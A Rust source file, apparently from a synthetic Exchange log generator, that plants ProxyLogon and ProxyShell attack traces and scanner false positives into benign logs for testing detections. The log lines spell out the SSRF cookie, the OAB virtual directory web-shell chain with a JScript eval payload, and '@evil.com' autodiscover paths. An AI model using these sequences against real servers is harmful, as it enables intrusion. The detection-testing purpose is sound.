//! What each scenario plants on top of the benign traffic, and when. All attack strings are
//! inert text in log lines, modelled on the public descriptions in detections.md (A.2, A.4, A.5,
//! A.7, B) and on issue microsoft/CSS-Exchange#100; attackers use documentation address ranges.

use crate::Scenario;
use crate::ctx::{Ctx, Era, SERVER_IP};
use crate::model::{Build, Proto, Req};
use crate::render::Site;
use crate::rng::{HEX_UPPER, Rng};
use crate::time::{DAY, HOUR, MIN, SEC, at};

/// Which log a planted line goes to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Target {
    Proxy(Proto),
    Iis(Site),
    Ecp,
    Oab,
}

#[derive(Debug, Clone)]
pub(crate) enum Payload {
    Req(Box<Req<'static>>),
    Ecp { event: &'static str, data: String },
    Oab { severity: &'static str, msg: String },
}

#[derive(Debug, Clone)]
pub(crate) struct Plant {
    pub ts: i64,
    pub target: Target,
    pub payload: Payload,
    /// Counts towards `Summary::attack_lines` (scanner probes and admin changes do not).
    pub attack: bool,
}

pub(crate) struct Plan {
    /// Midnight of the first day of each window of logs; every window is `days` long.
    pub windows: Vec<i64>,
    /// Only IIS logs are written when false (the inconclusive case).
    pub exchange_logs: bool,
    pub plants: Vec<Plant>,
    /// The W3SVC1 restart that writes a second header block with another field order.
    pub iis_restart: i64,
}

pub(crate) struct Profile {
    pub build: Build,
    pub era: Era,
    /// Days the windows centre on.
    pub centers: Vec<i64>,
}

pub(crate) fn profile(s: Scenario) -> Profile {
    let day = |y, m, d| at(y, m, d, 0, 0, 0, 0);
    match s {
        Scenario::Compromised => {
            Profile { build: Build::new(15, 1, 2176, 2), era: Era::Y2021, centers: vec![day(2021, 3, 3)] }
        }
        Scenario::Attempted => Profile {
            build: Build::new(15, 2, 792, 10),
            era: Era::Y2021,
            centers: vec![day(2021, 3, 6), day(2021, 8, 21)],
        },
        Scenario::Clean => {
            Profile { build: Build::new(15, 1, 2375, 37), era: Era::Y2023, centers: vec![day(2023, 1, 10)] }
        }
        Scenario::Inconclusive => {
            Profile { build: Build::new(15, 1, 2176, 2), era: Era::Y2021, centers: vec![day(2021, 3, 2)] }
        }
    }
}

pub(crate) const ATTACKER_UA_PY: &str = "python-requests/2.25.1";
pub(crate) const ATTACKER_UA_EWS: &str = "ExchangeServicesClient/0.0.0.0";
pub(crate) const WEBSHELL: &str = "supp0rt.aspx";
const ATTACKER_BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36";

pub(crate) fn plan(s: Scenario, days: u32, ctx: &Ctx, seed: u64) -> Plan {
    let prof = profile(s);
    let days = i64::from(days.max(1));
    let windows: Vec<i64> = prof.centers.iter().map(|c| c - (days - 1) / 2 * DAY).collect();
    let first = windows[0];
    let mut rng = Rng::derive(seed, &format!("plan/{}", s.name()));
    let mut plants = Vec::new();
    match s {
        Scenario::Compromised => proxylogon_chain(ctx, &mut rng, &mut plants),
        Scenario::Attempted => attempts(ctx, &mut rng, &mut plants),
        Scenario::Clean => traps(ctx, &mut rng, &mut plants, first, days),
        Scenario::Inconclusive => {}
    }
    plants.sort_by_key(|p| p.ts);
    Plan {
        exchange_logs: s != Scenario::Inconclusive,
        plants,
        iis_restart: first + (days - 1).min(1) * DAY + 2 * HOUR + 13 * MIN + 27 * SEC,
        windows,
    }
}

fn req_plant(target: Target, req: Req<'static>, attack: bool) -> Plant {
    Plant { ts: req.ts, target, payload: Payload::Req(Box::new(req)), attack }
}

/// An SSRF request carrying the `X-BEResource` cookie, as the front end's HttpProxy log shows
/// it: `AnchorMailbox = ServerInfo~a]@<fqdn>:444/<path>#`.
pub(crate) fn ssrf(ctx: &Ctx, rng: &mut Rng, ts: i64, ip: &str, ua: &str, path: &str, status: u16) -> Req<'static> {
    let mut r = Req::new(ts, rng.guid(), Proto::Ecp);
    r.method = "POST".into();
    r.stem = "/ecp/y.js".into();
    r.auth_type = "FBA".into();
    r.anchor = format!("ServerInfo~a]@{}:444/{path}#", ctx.fqdn).into();
    r.ua = ua.to_string().into();
    r.client_ip = ip.to_string().into();
    r.status = status;
    r.target = ctx.fqdn_lc.clone().into();
    r.backend_status = status;
    r.routing_type = "CrossRegion".into();
    r.routing_hint = "X-BEResource-Cookie".into();
    r.cafe = true;
    r.total_ms = rng.range32(30, 400);
    r.req_bytes = rng.range32(400, 2400);
    r.resp_bytes = rng.range32(200, 9000);
    r
}

/// How the back end (W3SVC2) logs the request the SSRF forwarded: the real path, from the
/// front end, under the front end's machine account.
fn ssrf_backend(ctx: &Ctx, front: &Req<'static>, path: &str) -> Req<'static> {
    let mut b = front.clone();
    let (stem, query) = path.split_once('?').unwrap_or((path, ""));
    b.stem = format!("/{stem}").into();
    b.query = query.to_string().into();
    b.cafe = false;
    b.client_ip = SERVER_IP.into();
    b.user = ctx.machine_account.clone().into();
    // The back end finishes a few milliseconds before the front end.
    b.total_ms = b.total_ms.saturating_sub((b.total_ms / 10).clamp(1, 9));
    b
}

/// IIS row for a request that never goes through HttpProxy (the web shell in aspnet_client).
fn plain(rng: &mut Rng, ts: i64, ip: &str, method: &str, stem: &str, ua: &str, status: u16) -> Req<'static> {
    let mut r = Req::new(ts, rng.guid(), Proto::Owa);
    r.method = method.to_string().into();
    r.stem = stem.to_string().into();
    r.ua = ua.to_string().into();
    r.client_ip = ip.to_string().into();
    r.status = status;
    r.total_ms = rng.range32(8, 900);
    if status == 404 {
        r.iis_win32 = 2;
    }
    r
}

/// The ProxyLogon run of the compromised scenario (2021-03-03, one attacker, about a minute),
/// followed by web-shell use over the next hours.
fn proxylogon_chain(ctx: &Ctx, rng: &mut Rng, out: &mut Vec<Plant>) {
    let ip = "203.0.113.45";
    let t0 = at(2021, 3, 3, 4, 21, 7, 118);
    let canary = format!("{}.", rng.token(43, b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"));
    let steps: [(i64, &str, String, u16); 6] = [
        (0, ATTACKER_UA_PY, "autodiscover/autodiscover.xml?".into(), 200),
        (3_211, ATTACKER_UA_PY, "mapi/emsmdb/?".into(), 200),
        (6_540, ATTACKER_UA_PY, "ecp/proxyLogon.ecp?".into(), 241),
        (
            9_877,
            ATTACKER_UA_EWS,
            format!("ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}"),
            200,
        ),
        (
            14_302,
            ATTACKER_UA_EWS,
            format!("ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}"),
            200,
        ),
        (
            47_015,
            ATTACKER_UA_EWS,
            format!("ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={canary}"),
            200,
        ),
    ];
    for (dt, ua, path, status) in steps {
        let front = ssrf(ctx, rng, t0 + dt, ip, ua, &path, status);
        let back = ssrf_backend(ctx, &front, &path);
        out.push(req_plant(Target::Proxy(Proto::Ecp), front.clone(), true));
        out.push(req_plant(Target::Iis(Site::Front), front, true));
        out.push(req_plant(Target::Iis(Site::Back), back, true));
    }

    let sid = rng.guid_string();
    let usid = ctx.admin500_sid();
    let vdir = &ctx.oab_vdir_guid;
    let tail = |url: &str, rng: &mut Rng| {
        format!(
            ";S:REQID=;S:URL={url};S:REFERRER=;S:EX=;S:ACTID={};S:RS=0;S:BLD={}",
            rng.guid_string(),
            ctx.build_dotted
        )
    };
    let set = format!(
        "S:TIME=188;S:SID={sid};S:USID={usid};S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){{eval(Request[\"p\"],\"unsafe\");}}</script>'.Identity='{vdir}'{}",
        tail(&format!("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}"), rng)
    );
    out.push(Plant {
        ts: t0 + 14_590,
        target: Target::Ecp,
        payload: Payload::Ecp { event: "ECP.Request", data: set },
        attack: true,
    });
    let reset = format!(
        "S:TIME=2203;S:SID={sid};S:USID={usid};S:CMD=Reset-OABVirtualDirectory.Identity='{vdir}'.FilePathName='\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\{WEBSHELL}'{}",
        tail(
            &format!("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={canary}"),
            rng
        )
    );
    out.push(Plant {
        ts: t0 + 47_610,
        target: Target::Ecp,
        payload: Payload::Ecp { event: "ECP.Request", data: reset },
        attack: true,
    });
    out.push(Plant {
        ts: t0 + 48_305,
        target: Target::Oab,
        payload: Payload::Oab {
            severity: "Error",
            msg: format!(
                "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\{WEBSHELL}' needs to be removed."
            ),
        },
        attack: true,
    });

    // The web shell in use, from the same address.
    let shell = format!("/aspnet_client/{WEBSHELL}");
    let uses: [(u32, u32, u32, &str); 6] = [
        (4, 22, 31, ATTACKER_BROWSER),
        (4, 25, 2, "antSword/v2.1"),
        (5, 47, 13, ATTACKER_BROWSER),
        (7, 12, 40, ATTACKER_BROWSER),
        (9, 30, 5, ATTACKER_BROWSER),
        (13, 2, 58, ATTACKER_BROWSER),
    ];
    for (h, m, s, ua) in uses {
        let ts = at(2021, 3, 3, h, m, s, rng.range32(0, 999));
        let r = plain(rng, ts, ip, "POST", &shell, ua, 200);
        out.push(req_plant(Target::Iis(Site::Front), r, true));
    }
}

/// Failed ProxyLogon attempts against a patched server (March 2021) and failed
/// ProxyShell / ProxyNotShell-style requests (August 2021).
fn attempts(ctx: &Ctx, rng: &mut Rng, out: &mut Vec<Plant>) {
    let recon = "autodiscover/autodiscover.xml?";
    let tries: [(i64, &str, &str, &str, u16); 4] = [
        (at(2021, 3, 6, 2, 14, 33, 410), "198.51.100.23", ATTACKER_UA_PY, "/ecp/y.js", 500),
        (
            at(2021, 3, 6, 2, 14, 35, 87),
            "198.51.100.23",
            ATTACKER_UA_PY,
            "/owa/auth/Current/themes/resources/logon.css",
            404,
        ),
        (at(2021, 3, 6, 11, 40, 9, 652), "192.0.2.77", ATTACKER_UA_EWS, "/ecp/y.js", 500),
        (
            at(2021, 3, 6, 11, 40, 12, 3),
            "192.0.2.77",
            ATTACKER_UA_EWS,
            "/owa/auth/Current/themes/resources/logon.css",
            500,
        ),
    ];
    for (ts, ip, ua, stem, status) in tries {
        let mut r = ssrf(ctx, rng, ts, ip, ua, recon, status);
        r.stem = stem.into();
        if stem.starts_with("/owa/") {
            r.proto = Proto::Owa;
        }
        // Patched: the front end refuses to route the cookie, nothing reaches a back end.
        r.target = "".into();
        r.backend_status = 0;
        r.total_ms = rng.range32(2, 40);
        out.push(req_plant(Target::Proxy(r.proto), r.clone(), true));
        out.push(req_plant(Target::Iis(Site::Front), r, true));
    }
    // Looking for a web shell someone else might have left: not there.
    let probe = plain(
        rng,
        at(2021, 3, 6, 11, 41, 2, 318),
        "192.0.2.77",
        "GET",
        "/aspnet_client/supp0rt.aspx",
        ATTACKER_UA_EWS,
        404,
    );
    out.push(req_plant(Target::Iis(Site::Front), probe, true));

    let email = "Email=autodiscover/autodiscover.json%3F@evil.com";
    let shell_tries: [(i64, &str, &str, String, u16, &str); 5] = [
        (
            at(2021, 8, 21, 10, 2, 44, 120),
            "198.51.100.77",
            "GET",
            format!("@evil.com/mapi/nspi/?&{email}"),
            401,
            "python-requests/2.26.0",
        ),
        (
            at(2021, 8, 21, 10, 2, 46, 904),
            "198.51.100.77",
            "POST",
            format!("@evil.com/EWS/exchange.asmx?&{email}"),
            401,
            "python-requests/2.26.0",
        ),
        (
            at(2021, 8, 21, 10, 2, 51, 377),
            "198.51.100.77",
            "GET",
            format!("@evil.com/powershell/?&{email}"),
            401,
            "python-requests/2.26.0",
        ),
        (
            at(2021, 8, 21, 17, 35, 10, 5),
            "192.0.2.140",
            "GET",
            format!("@evil.com/Powershell&{email}"),
            404,
            ATTACKER_BROWSER,
        ),
        (
            at(2021, 8, 21, 17, 35, 12, 771),
            "192.0.2.140",
            "POST",
            format!("@evil.com/Powershell&{email}"),
            401,
            ATTACKER_BROWSER,
        ),
    ];
    for (ts, ip, method, query, status, ua) in shell_tries {
        let mut r = Req::new(ts, rng.guid(), Proto::Autodiscover);
        r.method = method.into();
        r.stem = "/autodiscover/autodiscover.json".into();
        r.query = query.into();
        r.ua = ua.into();
        r.client_ip = ip.into();
        r.status = status;
        r.cafe = true;
        r.routing_hint = "Smtp-UrlAnchorMailbox".into();
        r.anchor = "Smtp~autodiscover/autodiscover.json?@evil.com".into();
        r.total_ms = rng.range32(2, 30);
        r.req_bytes = rng.range32(200, 600);
        r.resp_bytes = rng.range32(0, 300);
        if status == 401 {
            r.iis_substatus = 2;
            r.iis_win32 = 5;
        }
        out.push(req_plant(Target::Proxy(Proto::Autodiscover), r.clone(), true));
        out.push(req_plant(Target::Iis(Site::Front), r, true));
    }
}

/// The known false-positive traps of a clean server (detections.md D, G): scanner probes and a
/// legitimate OAB virtual directory change. None of them is an attack line.
fn traps(ctx: &Ctx, rng: &mut Rng, out: &mut Vec<Plant>, first: i64, days: i64) {
    let last = first + (days - 1) * DAY;
    let second = first + (days - 1).min(1) * DAY;

    // Microsoft's nmap script (http-vuln-cve2021-26855.nse).
    let mut r = Req::new(first + 3 * HOUR + 12 * MIN + 45_331, rng.guid(), Proto::Owa);
    r.stem = "/owa/auth/x.js".into();
    r.auth_type = "FBA".into();
    r.anchor = "ServerInfo~localhost/ecp/default.flt?".into();
    r.ua = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)".into();
    r.client_ip = "192.0.2.10".into();
    r.status = 500;
    r.backend_status = 500;
    r.target = "localhost".into();
    r.target_version = "0.00.0003.000".into();
    r.routing_type = "CrossRegion".into();
    r.routing_hint = "X-AnonResource-Backend-Cookie".into();
    r.cafe = true;
    r.total_ms = 14;
    r.generic_extra = "FEAuth=BEVersion-3;ProxyToDownLevel=True;NewConnection=::1&0;".into();
    out.push(req_plant(Target::Proxy(Proto::Owa), r.clone(), false));
    out.push(req_plant(Target::Iis(Site::Front), r, false));

    // zgrab reading the build from the export-tool manifest (detections.md D3).
    let mut r = Req::new(second + 17 * HOUR + 44 * MIN + 9_870, rng.guid(), Proto::Ecp);
    r.stem = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application".into();
    r.anchor = "ServerVersion~Version 15.0 (Build 0.0)".into();
    r.ua = "Mozilla/5.0 zgrab/0.x".into();
    r.client_ip = "198.51.100.200".into();
    r.target = ctx.fqdn_lc.clone().into();
    r.backend_status = 200;
    r.routing_type = "Server".into();
    r.routing_hint = "EDiscoveryExportTool-ServerVersion".into();
    r.cafe = true;
    r.total_ms = 21;
    r.resp_bytes = 3_318;
    out.push(req_plant(Target::Proxy(Proto::Ecp), r.clone(), false));
    out.push(req_plant(Target::Iis(Site::Front), r, false));

    // Nessus checking for ProxyShell with @test.com.
    let nessus_ua = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)";
    let client_id = rng.token(32, HEX_UPPER);
    let checks: [(i64, Proto, &str, String); 2] = [
        (
            last + 22 * HOUR + 5 * MIN + 31_200,
            Proto::Owa,
            "/owa/",
            format!("&Email=autodiscover/autodiscover.json%3F@test.com&ClientId={client_id}"),
        ),
        (
            last + 22 * HOUR + 5 * MIN + 32_020,
            Proto::Autodiscover,
            "/autodiscover/autodiscover.json",
            "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com".to_string(),
        ),
    ];
    for (ts, proto, stem, query) in checks {
        let mut r = Req::new(ts, rng.guid(), proto);
        r.stem = stem.into();
        r.query = query.into();
        r.ua = nessus_ua.into();
        r.client_ip = "192.0.2.33".into();
        r.status = 401;
        r.iis_substatus = 2;
        r.iis_win32 = 5;
        r.cafe = true;
        r.total_ms = 4;
        out.push(req_plant(Target::Proxy(proto), r.clone(), false));
        out.push(req_plant(Target::Iis(Site::Front), r, false));
    }

    // An administrator fixes the OAB external URL in the admin center.
    let admin = &ctx.admins[0];
    let ts = first + 10 * HOUR + 31 * MIN + 5_412;
    let mut r = Req::new(ts, rng.guid(), Proto::Ecp);
    r.method = "POST".into();
    r.stem = "/ecp/DDI/DDIService.svc/SetObject".into();
    r.query = format!("schema=OABVirtualDirectory&msExchEcpCanary={}", ctx.canary).into();
    r.auth_type = "FBA".into();
    r.authenticated = true;
    r.user = admin.dom_user.clone().into();
    r.anchor = admin.anchor_smtp.clone().into();
    r.ua = ctx.uas.browser[0].into();
    r.client_ip = admin.ip.into();
    r.target = ctx.fqdn_lc.clone().into();
    r.backend_status = 200;
    r.routing_type = "Database".into();
    r.routing_hint = "Smtp-UrlAnchorMailbox".into();
    r.referer = "https://mail.contoso.com/ecp/".into();
    r.cafe = true;
    r.total_ms = 611;
    let mut back = r.clone();
    back.client_ip = SERVER_IP.into();
    back.referer = "".into();
    out.push(req_plant(Target::Proxy(Proto::Ecp), r.clone(), false));
    out.push(req_plant(Target::Iis(Site::Front), r, false));
    out.push(req_plant(Target::Iis(Site::Back), back, false));
    out.push(Plant {
        ts: ts - 40,
        target: Target::Ecp,
        payload: Payload::Ecp {
            event: "ECP.Request",
            data: format!(
                "S:TIME=577;S:SID={};S:USID={};S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='{}\\OAB (Default Web Site)';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={};S:REFERRER=https://mail.contoso.com/ecp/;S:EX=;S:ACTID={};S:RS=0;S:BLD={}",
                rng.guid_string(),
                admin.sid,
                ctx.host,
                ctx.canary,
                rng.guid_string(),
                ctx.build_dotted
            ),
        },
        attack: false,
    });
}
